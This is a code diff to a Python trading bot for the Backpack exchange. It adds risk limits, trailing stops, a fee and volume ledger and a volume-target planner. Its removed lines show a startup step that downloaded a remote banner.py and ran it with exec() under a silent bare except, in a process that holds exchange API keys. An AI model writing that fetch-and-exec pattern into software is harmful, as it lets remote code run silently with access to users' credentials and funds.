@@ -1,15 +1,17 @@
-import json
 from os import getenv
 from dotenv import load_dotenv
-from time import sleep
+from time import sleep, time
+from datetime import datetime, timezone
 import logging
 import random
-import requests
-from telethon.sync import TelegramClient
-from telethon.tl.functions.messages import SendMessageRequest
+from helpers.settings import load_settings
 from helpers.backpack_exchange import BackpackExchange
 from helpers.public_API import PublicClient
+from helpers.transport import transport_from_env
 from helpers.orders import close_all_orders, close_all_positions
+from helpers.risk import RiskEngine, RiskLimits
+from helpers.trigger_orders import TriggerManager
+from helpers.campaign import DEFAULT_COST_RATE, CampaignLedger, CampaignPlanner
 from helpers.format_types import OrderSide, OrderType
 
 logging.basicConfig(
@@ -21,14 +23,17 @@ logging.basicConfig(
 
 load_dotenv()
 
-TELEGRAM_INFO = {
-    "MSG_TO": getenv("TELEGRAM_MSG_TO"),
-    "API_ID": int(getenv("TELEGRAM_API_ID")),
-    "API_HASH": getenv("TELEGRAM_API_HASH"),
-    "BOT_TOKEN": getenv("TELEGRAM_BOT_TOKEN")
-}
-
 def send_bot_message(message: str):
+    # Telethon is slow to import and only needed when TELEGRAM_ALERT is on.
+    from telethon.sync import TelegramClient
+    from telethon.tl.functions.messages import SendMessageRequest
+
+    TELEGRAM_INFO = {
+        "MSG_TO": getenv("TELEGRAM_MSG_TO"),
+        "API_ID": int(getenv("TELEGRAM_API_ID")),
+        "API_HASH": getenv("TELEGRAM_API_HASH"),
+        "BOT_TOKEN": getenv("TELEGRAM_BOT_TOKEN")
+    }
     with TelegramClient('telegram_bp_bot', TELEGRAM_INFO["API_ID"], TELEGRAM_INFO["API_HASH"]).start(bot_token=TELEGRAM_INFO["BOT_TOKEN"]) as client:
         try:
             entity = client.get_input_entity(TELEGRAM_INFO["MSG_TO"])
@@ -38,9 +43,8 @@ def send_bot_message(message: str):
             print(f"❌ Failed to send message: {e}")
 
 
-# Load settings from settings.json
-with open("settings.json", "r") as f:
-    settings = json.load(f)
+# Load and validate settings from settings.json
+settings = load_settings("settings.json")
 
 TOTAL_TRADES = settings["TOTAL_TRADES"]
 MIN_SLEEP = settings["MIN_SLEEP"]
@@ -54,6 +58,17 @@ STOP_LOSS_USDC = settings["STOP_LOSS_USDC"]
 TAKE_PROFIT_USDC = settings["TAKE_PROFIT_USDC"]
 AUTO_REPAY_BORROWS = settings["AUTO_REPAY_BORROWS"]
 TELEGRAM_ALERT = settings["TELEGRAM_ALERT"]
+# Optional risk limits, left unenforced when missing from settings.json
+MAX_ORDER_USDC = settings["MAX_ORDER_USDC"]
+MAX_EXPOSURE_USDC = settings["MAX_EXPOSURE_USDC"]
+MAX_LOSS_USDC = settings["MAX_LOSS_USDC"]
+# Optional client-side trailing stop on top of the fixed SL/TP, fed by mark prices while waiting
+TRAILING_STOP_PERCENTAGE = settings["TRAILING_STOP_PERCENTAGE"]
+MARK_PRICE_POLL_SECONDS = settings["MARK_PRICE_POLL_SECONDS"]
+# Optional cap on fees + funding - realized PnL spent on the whole run
+CAMPAIGN_BUDGET_USDC = settings["CAMPAIGN_BUDGET_USDC"]
+# Optional volume target; trade sizes are re-planned each cycle from the costs seen so far
+CAMPAIGN_TARGET_VOLUME_USDC = settings["CAMPAIGN_TARGET_VOLUME_USDC"]
 
 def format_decimal(value: any, tick_size: any) -> float:
     tick_size = str(tick_size)
@@ -103,7 +118,8 @@ def start_trading(
         stop_loss_usdc: float = 5,  # Desired loss in USDC
         take_profit_usdc: float = 10,  # Desired profit in USDC
         limit_price_percentage: float = 0.1,  # Limit price percentage (0.1%)
-        trade_side: str = "SHORT"
+        trade_side: str = "SHORT",
+        sleep=sleep,
     ):
 
     # Fetch market data to get the current price
@@ -165,22 +181,35 @@ def start_trading(
                 logging.error(f"Error in start_trading: {error_message}")
                 return False
 
-def countdown_sleep(min_sleep: int, max_sleep: int):
-    """Starts countdown from a random number between `min_sleep` and `max_sleep` and prints in one line."""
+def trail_position(client: BackpackExchange, public_client: PublicClient, trigger_manager: TriggerManager, trading_pair: str, trail_percentage: float):
+    """Attach a trailing stop once the entry has filled, then feed it the latest mark price."""
+    mark_price = float(public_client.get_mark_price(trading_pair)[0]["markPrice"])
+    if not trigger_manager.active(trading_pair):
+        for position in client.get_open_positions() or []:
+            net_quantity = float(position["netQuantity"])
+            if position["symbol"] == trading_pair and net_quantity:
+                side = OrderSide.SELL.value if net_quantity > 0 else OrderSide.BUY.value
+                trigger_manager.trailing_stop(trading_pair, side, abs(net_quantity), trail_percentage, mark_price)
+                logging.info(f"Trailing stop {trail_percentage}% attached to {net_quantity} {trading_pair} at {mark_price}")
+    trigger_manager.on_mark_price(trading_pair, mark_price)
+
+def countdown_sleep(min_sleep: int, max_sleep: int, on_tick=None, tick_every: int = 1, sleep=sleep):
+    """Starts countdown from a random number between `min_sleep` and `max_sleep` and prints in one line.
+    `on_tick` is called every `tick_every` seconds while waiting. Each second is waited with `sleep`,
+    e.g. `transport.sleep`, so a replay sets the pace."""
     count = random.randint(min_sleep, max_sleep)
     while count > 0:
         print(f"\rNext trading in..: {count} s", end="", flush=True)
+        if on_tick and count % tick_every == 0:
+            try:
+                on_tick()
+            except Exception as e:
+                logging.error(f"Error in countdown tick: {e}")
         sleep(1)
         count -= 1
     print('====================================================\n')
 
 if __name__ == "__main__":
-    try:
-        url = "https://raw.githubusercontent.com/solotop999/banner/main/banner.py"
-        response = requests.get(url)
-        exec(response.text)
-    except: pass
-    
     API_KEY = getenv("API_KEY")
     API_SECRET = getenv("API_SECRET")
 
@@ -188,33 +217,100 @@ if __name__ == "__main__":
         logging.error("API_KEY or API_SECRET is not set.")
         exit(1)
 
+    transport = None
     try:
-        public_client = PublicClient()
-        client = BackpackExchange(API_KEY, API_SECRET)
+        transport = transport_from_env()
+        public_client = PublicClient(transport)
+        client = BackpackExchange(API_KEY, API_SECRET, transport)
 
         client.update_account(leverageLimit=LEVERAGE_LIMIT, autoRepayBorrows=AUTO_REPAY_BORROWS)
+        client.risk_engine = RiskEngine(RiskLimits(
+            max_order_notional=MAX_ORDER_USDC,
+            max_symbol_exposure=MAX_EXPOSURE_USDC,
+            max_leverage=float(LEVERAGE_LIMIT),
+            max_loss=MAX_LOSS_USDC,
+        ))
+        trigger_manager = TriggerManager(client)
+        ledger = CampaignLedger(since=datetime.now(timezone.utc).replace(tzinfo=None).isoformat())
+        planner = None
+        if CAMPAIGN_TARGET_VOLUME_USDC:
+            planner = CampaignPlanner(
+                target_volume=CAMPAIGN_TARGET_VOLUME_USDC,
+                budget=CAMPAIGN_BUDGET_USDC if CAMPAIGN_BUDGET_USDC is not None else float("inf"),
+                cost_rates={TRADING_PAIR: DEFAULT_COST_RATE},
+                accounts=["default"],
+                trade_size=(TRADING_AMOUNT, TRADING_AMOUNT),
+                min_sleep=MIN_SLEEP,
+                max_sleep=MAX_SLEEP,
+                side=OrderSide.BUY.value if TRADE_SIDE == "LONG" else OrderSide.SELL.value,
+            )
 
         for i in range(TOTAL_TRADES):
             logging.info(f"Trading {i+1}/{TOTAL_TRADES}")
-            close_all_orders(client)
-            sleep(1)
-            close_all_positions(client)
-            sleep(1)
+            trigger_manager.cancel_symbol(TRADING_PAIR)
+            # Only wait for the exchange to settle when something was actually closed.
+            if close_all_orders(client):
+                transport.sleep(1)
+            if close_all_positions(client):
+                transport.sleep(1)
+
+            try:
+                ledger.ingest_fills(client.get_fill_history(symbol=TRADING_PAIR, limit=1000))
+                ledger.ingest_funding(client.get_funding_payments(symbol=TRADING_PAIR, limit=1000))
+            except Exception as e:
+                logging.error(f"Fill history fetch failed, campaign figures may lag: {e}")
+            campaign = ledger.summary()
+            logging.info(
+                f"Campaign volume {campaign['volume']:.2f}, fees {campaign['fees']:.4f}, funding {campaign['funding']:.4f}, "
+                f"PnL {campaign['realized_pnl']:.4f}, cost per $ volume {campaign['cost_per_volume'] * 100:.4f}%"
+            )
+            if CAMPAIGN_BUDGET_USDC is not None and campaign["cost"] >= CAMPAIGN_BUDGET_USDC:
+                logging.error(f"Stopped trading: campaign cost {campaign['cost']:.2f} reached budget {CAMPAIGN_BUDGET_USDC}")
+                break
+
+            trading_amount = TRADING_AMOUNT
+            if planner:
+                plan = planner.replan(ledger, time())
+                if not plan:
+                    logging.info("Stopped trading: campaign volume target reached or the remaining budget covers no more trades")
+                    break
+                trading_amount = plan[0].notional
+                logging.info(f"Campaign plan: {len(plan)} round trips left, next {trading_amount:.2f} USDC")
+
+            try:
+                client.risk_engine.sync(client, symbols=[TRADING_PAIR])
+            except Exception as e:
+                logging.error(f"Risk sync failed, skipping this cycle: {e}")
+                countdown_sleep(MIN_SLEEP, MAX_SLEEP, sleep=transport.sleep)
+                continue
+            # Entries and SL/TP exits fill on the exchange later, so take realized PnL from the fill history.
+            client.risk_engine.set_realized_pnl(TRADING_PAIR, ledger.net_pnl(TRADING_PAIR))
+            if client.risk_engine.killed:
+                logging.error(f"Stopped trading: {client.risk_engine.kill_reason}")
+                break
 
             order_status = start_trading(
                 client=client,
                 public_client=public_client,
                 trading_pair=TRADING_PAIR,
-                trading_amount=TRADING_AMOUNT,
+                trading_amount=trading_amount,
                 limit_price_percentage=LIMIT_PRICE_PERCENTAGE,
                 stop_loss_usdc=STOP_LOSS_USDC,
                 take_profit_usdc=TAKE_PROFIT_USDC,
                 trade_side=TRADE_SIDE,
+                sleep=transport.sleep,
             )
 
             if TELEGRAM_ALERT: send_bot_message(f"Trading {i+1}/{TOTAL_TRADES}:\n\n{order_status}")
 
-            countdown_sleep(MIN_SLEEP, MAX_SLEEP)
+            on_tick = None
+            if TRAILING_STOP_PERCENTAGE:
+                on_tick = lambda: trail_position(client, public_client, trigger_manager, TRADING_PAIR, TRAILING_STOP_PERCENTAGE)
+            countdown_sleep(MIN_SLEEP, MAX_SLEEP, on_tick=on_tick, tick_every=MARK_PRICE_POLL_SECONDS, sleep=transport.sleep)
     except Exception as e:
         logging.error(f"Error: {e}")
-        input("Press Enter to exit...")
\ No newline at end of file
+        input("Press Enter to exit...")
+    finally:
+        # Finishes a BACKPACK_RECORD file even when the run dies.
+        if transport:
+            transport.close()